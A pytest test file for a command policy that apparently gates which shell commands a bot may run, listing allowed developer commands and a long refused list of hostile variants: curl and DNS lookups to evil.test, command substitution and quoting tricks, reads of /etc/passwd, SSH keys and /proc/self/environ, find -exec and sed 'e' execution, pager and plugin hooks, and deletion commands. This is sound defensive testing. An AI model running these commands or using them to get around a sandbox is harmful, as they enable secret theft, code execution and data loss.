"""What each preset lets through and what it does not, in every spelling we know of."""

from __future__ import annotations

import re
import shlex

import pytest

from bot.domain import words
from bot.domain.commands_policy import Allowed, Policy, Refused
from bot.domain.presets import PRESETS
from bot.domain.presets.preset import Preset

ALL = Policy.of()

FINE = r"""
pytest
pytest -q tests/test_a.py::test_b
pytest -xvs -k 'a and not b' tests
pytest --maxfail=1 --tb=short -p no:cacheprovider
pytest -n4 -rA "tests/a.py::test[1]"
pytest -- tests
python -m pytest -q
python3 -m pytest --lf
uv run pytest
python -m unittest tests.test_a -v
python -m unittest discover -s tests
ruff check . --select E,F
ruff format --check bot
mypy --strict bot
python -m mypy bot
pip list
python3 -m pip show requests
npm test
npm test -- -t 'adds numbers'
npm run build:prod
npm run test -- src/a.test.js --watch=false
pnpm run lint
yarn test src
npm ls --depth=0
npx tsc --noEmit -p tsconfig.json
npx --no-install jest -t adds
npx eslint --max-warnings=0 -f json src
npx vitest run src/a.test.ts
node --test
node --test-name-pattern=adds --test test/a.js
node scripts/check.js
go test ./...
go test -run TestA -count=1 ./pkg/...
go test --run=TestA -v .
go vet ./...
go build -o /dev/null ./...
cargo test --workspace -p core some_test -- --nocapture
cargo clippy -- -D warnings
cargo fmt --all --check
mvn -q -B -Dtest=FooTest#bar test
gradle :app:test --tests 'a.B'
dotnet test --filter Name=x
bundle exec rspec spec/a_spec.rb:12
phpunit --filter testA tests
composer test
make test
make -j4 -k lint test
git status
git status --short --branch
git diff --stat
git diff HEAD~1 -- src
git diff -U3 --cached
git log -5
git log --oneline -n 3 main..HEAD
git log --format='%h %s' -p src
git --no-pager log -1
git show HEAD:src/a.py
git show @
git blame -L 1,20 src/a.py
git ls-files --others --exclude-standard
git grep -n foo src
git rev-parse --abbrev-ref HEAD
git branch
git branch --list 'feature/x'
rg foo src
rg 'a|b' src
rg -n -g '*.py' "foo bar" -A3
rg -e-x src
rg --files src
rg '/api/../v1' src
grep -rn --include='*.py' foo .
grep -C 3 foo a.py
find . -name "*.py" -not -path "./.git/*"
find src -type f -size -10k -mtime -1
find . '(' -name a -o -name b ')' -print0
sed -n 1,20p f
sed -n '5p' a b
sed -n '10,$p' f
ls -la src
ls
cat README.md /workspace/repo/a.py
head -20 a.py
tail -n +5 a.py
tail -n -5 a.py
wc -l a b
diff -u a b
rg "a\"b\\c" a\ b
pytest --cov=bot --cov-report=term-missing:skip-covered -W error
python -m pytest -k@slow
uv run --no-sync pytest -q
uv run --frozen ruff check .
pip list --format=json
uv pip freeze
python -m unittest test.test_a tests/test_b.py
jest -t adds a.test.js
jest -t=adds -bi
npx jest --maxWorkers=2 --testTimeout 5000
npm ls @scope/x
npm run lint --silent
tsc -p . --noEmit
yarn exec tsc --noEmit
node .
node ./scripts/a.mjs src
go test -run 'TestA/with_b' ./...
go list -m -json all
go version
gofmt -l -d pkg
cargo fmt -- --check
cargo test --features a,b -p core
gradle check --no-daemon
gradle :a:b:compileTestJava
dotnet test -c Release --verbosity quiet src/App.Tests
dotnet build --no-restore
rspec --order rand:3 -fd spec/a_spec.rb:3
phpunit --filter=testA --colors=never
make -j
git diff ':(exclude)a' ':!b' ':^c'
git diff HEAD^..HEAD
git log '@{u}..' --format='%h %C(auto)%d %(trailers:key=Fixes)'
git log -L 1,5:a.py
git log -L:work:a.py
git log --since='2 weeks ago' --author=a@b.c
git rev-list --count HEAD
git ls-tree -r HEAD src
git cat-file -p HEAD:a.py
git describe --tags
git merge-base main HEAD
git tag -l
git remote -v
git stash list
git blame -L '/def a/,+5' a.py
rg --sort=path -tpy 'def (a|b)\(' src
rg -g '!*.lock' -g '*.{ts,tsx}' x
grep -n '/etc/passwd' a.py
grep -e@app -r src
find . -type d -name node_modules -prune -o -name '*.ts' -print
find . -printf '%p %s\n'
sed -n '/def a/,/^$/p' a.py
sed -n '1,5p;20,30p' a.py
sed -ne 1p -e '$=' a
sed -nE '/a|b/p' a
cat 'src/[id]/(group)/page.tsx'
cat 'a b' "it's" a\'b
head -c 100 a
tail -n 20 -q a b
diff -ru -x '*.pyc' a b
""".strip().split("\n")

REFUSED = r"""
grep x f ; curl http://evil.test
git fetch && git pull && git clean -fd
pytest | sh
pytest || sh
pytest & curl evil.test
pytest &
(pytest)
{ pytest; }
pytest $(curl evil.test)
pytest `id`
pytest "`id`"
pytest "$(id)"
pytest "\$HOME"
rg "a!b" src
pytest $HOME
pytest ${IFS}
cat$IFS/etc/passwd
pytest <(curl evil.test)
pytest < a
pytest > a
pytest 2>&1
pytest tests/*.py
pytest tests/?.py
pytest tests/[ab].py
ls ~
ls ~root
ls --color=~/x
pytest # all
if true; then curl evil.test; fi
while true
! pytest
"cu"rl evil.test
c\url evil.test
$'\x63url' evil.test
cu''rl evil.test
{curl,evil.test}
/usr/bin/curl evil.test
./../../usr/bin/curl
./x.sh
/bin/ls
busybox wget
env curl
env pytest
xargs curl
nice curl
timeout 5 curl
sudo pytest
PATH=. pytest
A+=b pytest
'A=b' pytest
eval pytest
exec pytest
command pytest
ping -c1 evil.test
nslookup abc.evil.test
dig abc.evil.test
host abc.evil.test
sh -c id
bash x.sh
cd src
rm -rf .
tee a
'unclosed
"unclosed
pytest \
''
find . -name a.py -exec sh -c id \;
find . -execdir id ';'
find . -ok id ';'
find . -okdir id ';'
find . -delete
find . -name -delete
find . -name=x -delete
find -- . -delete
find . --delete
find . -fprintf /tmp/x %p
find . -fprint x
find . -fls x
find . -files0-from x
find -L . -name a
find / -name a
find .. -name a
rg --pre ./x.sh foo
rg --pre=./x.sh foo
rg --pr=./x.sh foo
rg -z foo
rg --search-zip foo
rg --hostname-bin=./x foo
rg -L foo
rg --ignore-file=x foo
rg foo /etc
rg foo ../other
rg -f /etc/passwd x
rg -nz foo
rg -- --pre=./x foo
rg foo -- --pre=./x
grep -R foo .
grep -f/etc/passwd x
grep --exclude-from=x foo
sed -n "1e id" f
sed -n 1p -i f
sed -n -i 1p f
sed -n 1p --in-place f
sed -n '1w x' f
sed -n '1,5p;w x' f
sed -i "s/a/b/w /tmp/out" f
sed -i s/a/b/ f
sed -n
sed -n 1p /etc/passwd
sed -e 1p f
go test -exec ./x.sh ./...
go test --exec=./x.sh ./...
go test -toolexec=./x ./...
go test -o x ./...
go test -c ./...
go test -coverprofile=x ./...
go test -overlay=x ./...
go test -ldflags=-x ./...
go test ./... -args -x
go test -v=true ./...
go vet -vettool=./x ./...
go build -o x .
go run .
go generate
go env -w A=b
go get x
fd -x sh
git grep --open-files-in-pager=./x.sh foo
git grep -O./x.sh foo
git grep -nO./x.sh foo
git grep --open-files-in=./x.sh foo
git grep --no-index foo /etc
git grep -f /etc/passwd
git diff --output=/workspace/repo/.bashrc
git diff --output x
git diff --outp=x
git diff --ext-diff
git diff --textconv
git diff --no-index a b
git diff -O../x
git log --output=x
git log --show-signature
git log --format=%G?
git log --format='%h %+GS'
git log --pretty=format:%GK
git -c core.pager=./x.sh log
git --exec-path=. status
git --paginate -c pager.log=./x log
git -C .. status
git --git-dir=x status
git --no-pager -c a=b log
git branch x
git branch -D x
git branch --list -D x
git checkout x
git push
git commit -m x
git config a b
git fetch
git blame --contents=/etc/passwd a
git show HEAD -- ../x
git difftool
git help -w log
pytest -p evil
pytest -pevil
pytest -xpevil
pytest -vvp evil
pytest -c evil.ini
pytest --config-file=x
pytest -o python_files=x
pytest --override-ini=a=b
pytest --rootdir=/tmp
pytest --basetemp=x
pytest --junitxml=x
pytest --junit-x=x
pytest --pdb
pytest --pdbcls=a:b
pytest --trace
pytest --log-file=x
pytest --pastebin=all
pytest --cov-report=html:x
pytest --cov-config=x
pytest -W error::evil.X
pytest @args
pytest -- @args
pytest -- -p evil
pytest /etc
pytest ../other
pytest a/../../b
pytest --ignore=/etc
pytest --ignore ../x
pytest --deselect=../../x
pytest -k
pytest -k -p
pytest --lf=x
pytest --tb=evil
pytest -é
python -c "import os"
python x.py
python -m http.server
python -m pip install x
pip install x
pip download x
python -im pytest
python -m unittest ../x
uv run sh
uv run --with x pytest
uv pip install x
ruff check --fix
ruff check --config=x .
ruff check --config x .
ruff check -o x .
ruff check --output-file=x
ruff check --add-noqa
ruff check --cache-dir=x
ruff check --watch .
ruff format .
ruff format --diff --config=x .
ruff clean
mypy --config-file=x
mypy --install-types
mypy --python-executable=./x
mypy --html-report=x
mypy --cache-dir=x
mypy @args
npm install x
npm i
npm ci
npm exec x
npm run
npm run x -- --globalSetup=./e.js
npm run x -- -u
npm run ../x
npm test --script-shell=./x
npm test --prefix=..
npm test --node-options=--require=./x
npm test -g
npm publish
npm --prefix x test
npx evil
npx -y tsc
npx -p evil tsc
npx -c id
npx tsc --outDir x
npx tsc --init
npx tsc -w
npx tsc -p ../tsconfig.json
npx tsc @args
tsc --generateTrace x
eslint --fix src
eslint -c x src
eslint --rulesdir=x src
eslint --resolve-plugins-relative-to=x src
eslint -f ./evil.js src
eslint -o x src
jest -u
jest --config=x
jest -c x
jest --globalSetup=./x
jest --outputFile=x
jest --watch
vitest
vitest run -c x
vitest run --config=x
vitest run --reporter=./x
node -e 1
node --eval=1
node -p 1
node -r ./x a.js
node --require=./x a.js
node --import=./x a.js
node --loader ./x a.js
node --env-file=x a.js
node --inspect a.js
node --test-reporter=./x
node --test_reporter=./x
node --test-reporter-destination=x --test
node --cpu-prof a.js
node ../a.js
cargo test --config x
cargo test --manifest-path=../Cargo.toml
cargo test --target-dir=x
cargo test -Zx
cargo test -- --logfile x
cargo clippy --fix
cargo clippy -- -Clinker=./x
cargo fmt
cargo run
cargo install x
cargo +nightly test
mvn exec:exec
mvn -Dexec.executable=sh test
mvn -f x test
mvn -s x test
mvn deploy
gradle -I x test
gradle --init-script=x test
gradle -Pa=b test
gradle run
dotnet test --logger x
dotnet test --settings x
dotnet test -p:x=y
dotnet test /p:x=y
dotnet test @x
dotnet run
rspec -r ./x
rspec --require=./x
rspec -I x
rspec -o x
rspec --out=x
rspec -f Evil
bundle exec sh
bundle install
phpunit --bootstrap=x
phpunit -c x
phpunit -d a=b
phpunit --log-junit=x
phpunit --prepend=x
composer install
composer test -- -x
make SHELL=./x test
make CC=./x
make -f x
make -C ..
make --eval=x
make -E x
make --directory=..
make ../x
make /etc/x
make -- -f
ls /
ls ..
ls -L
ls --hyperlink=always src/../..
cat /etc/passwd
cat /workspace/repo-secrets/a
cat /workspace/repo/../x
cat //etc/passwd
cat ~
cat '~/.ssh/id_rsa'
cat file:///etc/passwd
cat a/../..
cat /proc/self/environ
tail -f a
tail --follow=name a
wc --files0-from=x
diff -l a b
diff --to-file=/etc a
diff --from-file /etc/passwd a
head -n
pytest -k @args
pytest -m @args
pytest --deselect @args
pytest -qk @args
pytest --import-mode=importlib
pytest --confcutdir=x
pytest --debug=x
pytest --cov-report html:x
pytest --cov-report=xml
pytest --cov=/etc
pytest --rootd=x
pytest --report-log=x
pytest --pyargs evil
pytest -n 4 --tx=popen//python=./x
pytest -W error::evil.X
pytest file:///etc/x.py
pytest '--ignore=a,../b'
python -m unittest http.server.test
python -m unittest pip._internal.main
python -m unittest discover -s /etc
python -m unittest discover -s=/etc
python -m unittest discover -s../x
python3 -m pdb a.py
python3 -X importtime -m pytest
python -mpytest
uv run --python ./x pytest
uv run --directory .. pytest
uv run --with-editable=. pytest
uv --project .. run pytest
uv run --env-file=x pytest
uv run pytest -p evil
uv tool run ruff
uvx ruff
ruff check --select @args
ruff check @args
ruff check --conf=x
ruff check --unsafe-fixes --fix-only
ruff format --check --cache-dir=/etc
mypy --python-version @args
mypy --shadow-file a b
mypy --python-exec=./x
mypy --junit-xml x
mypy --pdb
mypy -c 'import os'
pip list --outdated
pip list -o
pip freeze -r ../x
pip config set a b
pip --python ./x list
pip cache purge
jest -tc evil.js
jest -tu
jest -tucevil.js
jest -bu
jest --conf=x
jest --setupFiles=./x
jest --coverageDirectory=x
jest --rootDir=..
jest --runner=./x
vitest run -tc x
vitest run --root ..
vitest run --globals.x=y
vitest run --api
vitest --ui
npm test -wC x
npm test -wg
npm test --pref=..
npm run x --script-shell ./x
npm run x -- --config=./x
npm x tsc
npm --workspaces-update=false exec evil
npm config set script-shell ./x
npm explore a -- sh
npm ls /etc
pnpm --dir .. test
pnpm -C .. test
pnpm dlx evil
pnpm exec sh
yarn --cwd .. test
yarn dlx evil
yarn exec sh
yarn node -e 1
npx --package=evil tsc
npx --yes evil
npx tsc
npx tsc --noEmit false
npx tsc --noEmit FALSE
npx tsc --noEmit --build
npx tsc -b
npx tsc -noEmit
npx tsc --noEmit --outDir x
npx tsc --noEmit --plugins x
npx tsc --noEmit -p @x
eslint -fo x
eslint -fix .
eslint --plugin ./x .
eslint --parser=./x .
eslint --cache-location=x .
eslint --output-file x
node -pe 1
node -i
node --inspect-brk=0.0.0.0 a.js
node --experimental-loader=./x a.js
node --test --watch
node --run test
node --conditions=x a.js
node --openssl-config=x a.js
node --env-file-if-exists=x a.js
node --build-snapshot a.js
node --diagnostic-dir=x a.js
node inspect a.js
node -
node /etc/x.js
node file:///etc/x.js
go test -exec=./x ./...
go test -cpuprofile=x .
go test -c -o x .
go test -modfile=x .
go test -C .. ./...
go -C .. test ./...
go test --toolexec ./x ./...
go test -fuzz=. .
go test -outputdir x .
go test -gcflags=all=-N .
go test x@latest
go list -export ./...
go list -m -u all
go list -m x@latest
go build -o ../x .
go build -buildmode=plugin .
go tool pprof x
go install ./...
go mod edit -replace=a=b
gofmt -w .
gofmt -cpuprofile=x .
cargo test --config=build.rustc=./x
cargo --config x test
cargo -C .. test
cargo -Zscript test
cargo test --manifest-p=../x
cargo test --target ./x.json
cargo build --artifact-dir=x
cargo build --timings
cargo fmt -- --config-path=x
cargo fmt -- --emit=files
cargo clippy -- -D @x
cargo clippy -- -C link-arg=x
cargo clippy -- -Dwarnings --emit=link=x
cargo test -- --logfile=x
cargo bench
cargo fix
mvn -Dmaven.ext.class.path=x test
mvn -D exec.executable=sh test
mvn -Dtestx=y test
mvn --file ../pom.xml test
mvn -f../pom.xml test
mvn -gs x test
mvn -P evil test
mvn org.codehaus.mojo:exec-maven-plugin:3.1.0:exec
mvn dependency:get
./mvnw test
./gradlew test
gradle -b x test
gradle -c x test
gradle -p .. test
gradle -Da=b test
gradle --project-dir=.. test
gradle --gradle-user-home=x test
gradle --init-scr=x test
gradle -qI x test
gradle --scan test
gradle wrapper
gradle publish
dotnet test --settings:x
dotnet test --results-directory x
dotnet test -d x
dotnet test -l x
dotnet build -flp:logfile=x
dotnet build -fl
dotnet build -cx
dotnet build -o x
dotnet build /fl
dotnet build --property:a=b
dotnet build @x.rsp
dotnet build -c @x.rsp
dotnet test -- RunConfiguration.TestAdaptersPaths=x
dotnet exec x.dll
dotnet tool run x
rspec -fo x
rspec --require ./x
rspec --req=./x
rspec -Ix
rspec -bO x
rspec --drb
rspec --init
bundle exec rspec -r ./x
bundle exec rake
bundle config set a b
phpunit --boot=x
phpunit --configuration=x
phpunit --log-teamcity x
phpunit --coverage-html=x
phpunit --include-path=x
phpunit --generate-configuration
vendor/bin/phpunit
composer exec sh
composer -d .. test
composer run-script test
composer global require x
make --file=x
make -fx
make -kf x
make -I.. x
make --include-dir=..
make -j4 SHELL=./x
make 'a:=b'
make -C sub test
make -nC sub
make MAKEFLAGS=-fx
make -- A=b
git show --ext-diff
git log -p --textconv
git log --show-sig
git log --format='%-%G?'
git log --format='%C%GS'
git log --pretty='%>(9)%GK'
git show --format=%GF HEAD
git log -L1,5:/etc/passwd
git log -L :f:../x
git log --output-directory=x
git diff --no-ind a b
git diff /etc/passwd a
git diff a ../b
git diff -Ox
git diff -pOx
git diff ':(top)../x'
git diff ':(glob,top)../x'
git diff :/../x
git diff --submodule=diff
git status --ignore-submodules=none -C ..
git blame --cont=/etc/passwd a
git blame --ignore-revs-file=/etc/passwd a
git blame -S x a
git grep -lO foo
git grep --ope=./x foo
git grep --no-ind foo /etc
git grep -f/etc/passwd
git grep --textconv foo
git grep --recurse-submodules foo
git grep -e foo /etc
git branch -m x
git branch -vD x
git branch --edit-description
git branch -u origin/x
git branch --list --edit-description
git tag x
git tag -l -d x
git tag -d x
git tag -v x
git remote add x y
git remote -v update
git remote show origin
git stash
git stash pop
git stash list -p
git ls-files -X../x
git ls-files --exclude-from=/etc/passwd
git ls-files --exclude-per-directory=x
git ls-remote ext::sh
git cat-file --textconv HEAD:a
git cat-file --filters HEAD:a
git cat-file --batch
git describe --broken
git rev-parse --parseopt
git rev-parse --git-path x
git -p log
git -P -c a=b log
git --config-env=a=b log
git --work-tree=/ status
git --namespace=x log
git --super-prefix=x/ log
git --no-pager --git-dir=x log
git --no-pager -C .. log
git archive HEAD
git bundle create x HEAD
git daemon
git apply x
git am x
git bisect run ./x
git rebase --exec ./x
git filter-branch
git submodule foreach id
git worktree add ../x
git hash-object -w a
git update-index --add a
git update-ref a b
git symbolic-ref HEAD x
git notes add
git reflog expire
git gc
git init ..
git clone x
git var GIT_EDITOR
git web--browse x
git mergetool
git send-email
git interpret-trailers --in-place x
rg --pre-glob=x --pre x foo
rg --type-add=x:y foo
rg --fol foo
rg -nf../x foo
rg --file=/etc/passwd foo
rg --ignore-file=/etc/x foo
rg -e foo /etc
rg --files /etc
rg --no-config --pre x foo
rg --generate=man
rg -nL foo
grep -rf../x .
grep -nf x foo
grep --file=x foo
grep --fil=x foo
grep --exclude-from ../x foo
grep -d recurse foo /etc
grep -nR foo .
grep --dereference-recursive foo .
grep -e foo /etc/passwd
grep --regexp foo /etc/passwd
find . -fprint0 x
find . -fprintf x %p
find . -execdir sh -c id ';'
find . -exec sh -c id '{}' +
find . -ok rm '{}' ';'
find . -name x -o -delete
find . '(' -delete ')'
find . '!' -delete
find -files0-from x
find -follow
find -H . -name a
find . -newer /etc/passwd
find . -newer ../x
find -D exec .
sed --expression=1e
sed -n -e 1w -e p f
sed -n 1,5w f
sed -n '1r /etc/passwd' f
sed -n '/a/e' f
sed -n '/[/]/w x' f
sed -n 's/a/b/e' f
sed -n 's/a/b/wx' f
sed -n '1{p;w x' f
sed -n '1p;1e id' f
sed -nf x f
sed -n --file=x f
sed -ni 1p f
sed -n -i.bak 1p f
sed -nz 1p -- -i f
sed 1p f
sed -n -e 1p /etc/passwd
ls --hyperlink /etc
ls -lL a
ls -H a
ls --dereference a
cat -- /etc/passwd
cat -n/etc/passwd
cat '..\x'
cat a/..
cat './/..//x'
cat FILE:///etc/passwd
head -n5 ../x
head -c5 /etc/passwd
tail -F a
tail -5f a
tail -fn5 a
tail --fol a
tail --pid=1 -f a
tail --retry a
wc --files0=x
wc -l /etc/passwd
diff --from=/etc a
diff --to-file=../x a
diff -rX/etc/x a b
diff --exclude-from=x a b
diff -Dx a b
diff --label=x -l a b
diff a /etc/passwd
""".strip("\n").split("\n")


def test_what_a_developer_needs_is_allowed_as_words() -> None:
    for line in FINE:
        decision = ALL.decide(line)
        assert isinstance(decision, Allowed), (line, decision)
        assert list(decision.argv) == shlex.split(line)
        assert decision.rule.startswith("preset ")


def test_what_a_shell_or_an_option_could_do_is_refused() -> None:
    for line in REFUSED:
        decision = ALL.decide(line)
        assert isinstance(decision, Refused), (line, decision)
        assert decision.reason.endswith(".")
        assert decision.hint is None or decision.hint.endswith(".")


WIDENED = {"sed -e 1p f", "sed 1p f", "ruff format .", "cargo fmt", "npx tsc"}
"""What a preset refuses only because an option is missing; a rule that names the program stands in for that."""


def _opened(line: str) -> list[str]:
    """The widest rules a repository could write for the program of a line, as long as a preset knows what it is."""
    argv = words.split(line)
    fitting = [preset for preset in PRESETS if isinstance(argv, tuple) and argv[: len(preset.words)] == preset.words]
    if not fitting or line in WIDENED or line.startswith("npm run x -- "):
        return []
    return [f"{' '.join(max(fitting, key=_length).words)} *", f"{fitting[0].words[0]} *"]


def _length(preset: Preset) -> int:
    return len(preset.words)


def test_listing_a_program_does_not_bring_in_the_options_that_its_preset_refuses() -> None:
    opened = [(line, rule) for line in REFUSED for rule in _opened(line)]
    assert len(opened) > 500
    for line, rule in opened:
        decision = Policy.of(allow=[rule]).decide(line)
        assert isinstance(decision, Refused), (line, rule)
        assert decision.rule == f"commands.allow: {rule}"


@pytest.mark.parametrize("line", sorted(WIDENED))
def test_a_rule_that_names_a_program_may_let_it_write(line: str) -> None:
    assert isinstance(Policy.of(allow=[f"{line.split()[0]} *"]).decide(line), Allowed)


def test_no_two_presets_begin_alike() -> None:
    beginnings = [preset.words for preset in PRESETS]
    assert len(beginnings) == len(set(beginnings))


def test_each_option_of_a_table_can_be_given() -> None:
    """One that its program would read as something else is of no use to anybody."""
    for preset in {preset.name: preset for preset in PRESETS}.values():
        for name, option in preset.options.items():
            assert re.fullmatch(r"-[^-=]|--[a-zA-Z][\w-]*", name) or preset.style in ("single", "go"), (
                preset.name,
                name,
            )
            words_ = [name] if not option.takes_value or option.glued_only else [name, "x"]
            decision = ALL.decide(" ".join(f"'{word}'" for word in [*preset.words, *words_]))
            refusal = decision.reason if isinstance(decision, Refused) else ""
            assert "is not among those allowed" not in refusal or name == "-#", (preset.name, name, refusal)
        assert preset.needs <= {*preset.options, *preset.after}
